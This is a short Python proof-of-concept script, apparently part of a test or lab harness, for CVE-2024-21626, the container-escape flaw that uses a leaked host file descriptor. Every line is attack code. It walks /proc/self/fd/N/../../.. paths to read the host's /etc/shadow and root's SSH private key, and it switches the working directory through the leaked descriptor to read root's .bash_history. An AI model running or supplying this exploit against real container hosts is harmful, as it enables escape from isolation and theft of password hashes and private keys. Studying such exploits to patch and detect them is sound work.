# CVE-2024-21626: a working folder on a leaked descriptor of the host, reached by /proc/self/fd/N/../../..
import os

from kit import attempt, finish, read

folder = os.open("/work", os.O_RDONLY)
for descriptor in (*range(3, 12), folder):
    for path in (f"/proc/self/fd/{descriptor}/../../../etc/shadow", f"/proc/self/fd/{descriptor}/../root/.ssh/id_rsa"):
        attempt(path, read, path)


def by_folder():
    os.chdir(f"/proc/self/fd/{folder}/../../..")
    return read("root/.bash_history")


attempt("as a working folder", by_folder)
finish()
